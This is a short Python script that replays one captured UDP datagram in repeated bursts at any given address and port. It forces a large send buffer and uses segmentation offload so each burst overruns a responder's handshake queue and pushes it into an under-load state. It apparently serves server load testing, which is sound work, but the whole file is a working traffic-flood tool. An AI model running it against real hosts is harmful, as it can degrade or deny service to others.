"""Replays one captured datagram in bursts until it is ended: ``flood.py ADDRESS PORT HEX``.

A burst is more than any responder's queue of handshakes takes at once, and comes before the second
is over for which it counts as under load; between bursts there is room for others.
"""

from __future__ import annotations

import socket
import sys
import time

UDP_SEGMENT, SO_SNDBUFFORCE = 103, 32
AT_ONCE, BURST, PAUSE = 64, 12, 0.25


def main(address: str, port: str, message: str) -> None:
    data = bytes.fromhex(message)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_UDP, UDP_SEGMENT, len(data))
        sender.setsockopt(socket.SOL_SOCKET, SO_SNDBUFFORCE, 4 << 20)
        print("begins", flush=True)
        while True:
            for _ in range(BURST):
                sender.sendto(data * AT_ONCE, (address, int(port)))
            time.sleep(PAUSE)


if __name__ == "__main__":
    main(*sys.argv[1:])
